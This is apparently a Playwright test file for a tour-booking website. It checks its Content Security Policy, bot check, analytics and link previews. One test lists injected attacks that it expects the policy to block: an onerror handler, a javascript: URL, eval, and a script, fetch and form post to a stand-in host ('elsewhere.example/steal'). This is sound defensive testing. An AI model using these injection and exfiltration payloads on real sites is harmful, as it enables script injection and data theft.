import type { Page } from 'playwright/test';
import { sharePath } from '../data/functions/pages';
import { shareSize } from '../data/functions/picture-files';
import { serveFolder } from '../tools/shared/serve';
import { botCheckSecondStage } from './bot-check-stand-in';
import { firstTourPath } from './content';
import {
  ANALYTICS,
  analyticsEvents,
  atRest,
  BOT_CHECK_SECOND_STAGE,
  expect,
  fillIn,
  openReady,
  SENT,
  script,
  sendButton,
  test,
} from './fixtures';

const elsewhere = 'https://elsewhere.example';
/** Pages with different styles. The last one needs the most. */
const pages = ['/boat-hire', firstTourPath, '/', '/contact'];

/** The computed styles of the parts of the page. */
function appearance(page: Page) {
  return page.locator('main').evaluate((main) =>
    [...main.querySelectorAll('h1, h2, h3, p, a, img, ul, dl, form button')].map((part) => {
      const { display, fontSize, color, padding, gridTemplateColumns, position } = getComputedStyle(part);
      return `${part.tagName} ${[display, fontSize, color, padding, gridTemplateColumns, position].join(' | ')}`;
    }),
  );
}

/** Follows a link without loading a document. Every page has a link in the footer or in the list of tours. */
async function followLink(page: Page, path: string) {
  await page.evaluate((to) => {
    const link = [...document.querySelectorAll<HTMLAnchorElement>('a')].find(
      (candidate) => candidate.getAttribute('href') === to,
    );
    link?.click();
  }, path);
  await expect(page).toHaveURL(new RegExp(`${path}$`));
}

// A refusal is an error on the console, and every journey fails on one (fixtures.ts).
test('the policy refuses nothing on pages behind links, and all their styles apply', async ({ page }) => {
  const loaded = new Map<string, string[]>();
  for (const path of pages) {
    await page.goto(path);
    // Wait for late parts, such as the reviews.
    await atRest(page);
    loaded.set(path, await appearance(page));
  }
  for (const path of pages) {
    await followLink(page, path);
    await expect.poll(() => appearance(page), { intervals: [50] }).toEqual(loaded.get(path));
  }
});

test('the bot check with its frame, the e-mail and the analytics work under the policy of another page', async ({
  page,
  emailCalls,
}) => {
  const frame = 'https://www.google.com/recaptcha/api2/anchor?k=6L';
  const collect = 'https://region1.google-analytics.com/g/collect?v=2';
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.route(frame, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<p>I am the frame</p>' }),
  );
  await page.route(`${collect}**`, (route) => route.fulfill({ status: 204 }));
  await page.route('https://www.google.com/recaptcha/api2/clr', (route) =>
    route.fulfill({ body: 'OK', headers: { 'Access-Control-Allow-Origin': '*' } }),
  );
  await page.route(BOT_CHECK_SECOND_STAGE, (route) =>
    route.fulfill(
      script(
        `${botCheckSecondStage().replace('<iframe hidden>', `<iframe title="bot check" src="${frame}">`)}; fetch('https://www.google.com/recaptcha/api2/clr')`,
      ),
    ),
  );
  await page.route(ANALYTICS, (route) =>
    route.fulfill(script(`navigator.sendBeacon('${collect}'); new Image().src = '${collect}&pixel'`)),
  );

  await openReady(page, '/faq');
  await page.mouse.move(50, 50);
  await followLink(page, '/contact');
  await expect(page.getByText('protected by reCAPTCHA')).toHaveCSS('position', 'fixed');
  await expect(page.frameLocator('iframe[title="bot check"]').getByText('I am the frame')).toBeAttached();
  await fillIn(page);
  await sendButton(page).click();
  await expect(page.getByText(SENT)).toBeVisible();
  expect(emailCalls).toHaveLength(1);

  await expect
    .poll(async () => (await analyticsEvents(page)).map(({ name }) => name))
    .toEqual(expect.arrayContaining(['page_view', 'enquiry_success']));
  const layer = await page.evaluate(() =>
    (window.dataLayer ?? []).map((entry) => [...(entry as ArrayLike<unknown> & Iterable<unknown>)][0]),
  );
  expect(layer).toEqual(expect.arrayContaining(['js', 'config', 'event']));
  expect(requests).toEqual(expect.arrayContaining([collect, `${collect}&pixel`]));
});

type Attack = [name: string, refusal: string, attack: string | (() => void)];

/** Attacks with injected HTML or script, and what refuses each. An attack sets `ran` if it succeeds. */
const attacks: readonly Attack[] = [
  ['an event-handler attribute', 'script-src-attr inline', '<img src="data:," onerror="window.ran = true">'],
  ['a foreign picture', `img-src ${elsewhere}/p.gif`, `<img src="${elsewhere}/p.gif">`],
  [
    'a foreign style',
    `style-src-elem ${elsewhere}/x.css`,
    `<link rel="stylesheet" href="${elsewhere}/x.css">`,
  ],
  ['a foreign frame', `frame-src ${elsewhere}`, `<iframe src="${elsewhere}/"></iframe>`],
  ['another base for every address', `base-uri ${elsewhere}/`, `<base href="${elsewhere}/">`],
  [
    'an injected inline script',
    'script-src-elem inline',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
    },
  ],
  [
    'an address that is a script',
    'script-src-elem inline',
    () => {
      const trap = document.createElement('a');
      trap.href = 'javascript:window.ran=true';
      document.body.append(trap);
      trap.click();
    },
  ],
  ['words that become a script', 'script-src eval', () => void setTimeout('window.ran = true')],
  [
    'a foreign script',
    'script-src-elem https://elsewhere.example/x.js',
    () => {
      const script = document.createElement('script');
      script.src = 'https://elsewhere.example/x.js';
      document.body.append(script);
    },
  ],
  [
    'a foreign request',
    'connect-src https://elsewhere.example/collect',
    () => void fetch('https://elsewhere.example/collect', { method: 'POST', body: 'words' }).catch(() => {}),
  ],
  [
    'a form posted elsewhere',
    'form-action https://elsewhere.example/steal',
    () => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = 'https://elsewhere.example/steal';
      document.body.append(form);
      form.submit();
    },
  ],
];

test('another site may show the picture of a link preview', async ({ page, baseURL }) => {
  const text = `<img src="${baseURL}${sharePath('/')}" alt="preview">`;
  // Another port is another site.
  const { url, close } = await serveFolder(process.env.SITE_OUT || 'out', {
    port: 0,
    handlers: [(_, response) => !!response.writeHead(200, { 'Content-Type': 'text/html' }).end(text)],
  });
  try {
    await page.goto(url);
    await expect(page.getByAltText('preview')).toHaveJSProperty('naturalWidth', shareSize.width);
  } finally {
    await close();
  }
});

/** Records everything that the policy of a page refuses, as 'directive address'. */
async function recordRefusals(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('reportRefusal', (refusal: string) => refused.push(refusal));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      (window as unknown as { reportRefusal: (refusal: string) => void }).reportRefusal(
        `${effectiveDirective} ${blockedURI}`,
      ),
    );
  });
  return refused;
}

test('an injected script is refused', async ({ page, allowedMessages }) => {
  allowedMessages.push(/Content Security Policy/i, /net::ERR_BLOCKED_BY_CSP/);
  const refused = await recordRefusals(page);
  for (const [name, refusal, attack] of attacks) {
    await test.step(name, async () => {
      refused.splice(0);
      await page.goto('/contact');
      const address = page.url();
      if (typeof attack === 'function') await page.evaluate(attack);
      else await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), attack);
      await expect.poll(() => refused).toContain(refusal);
      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
      expect(page.url()).toBe(address);
    });
  }
});
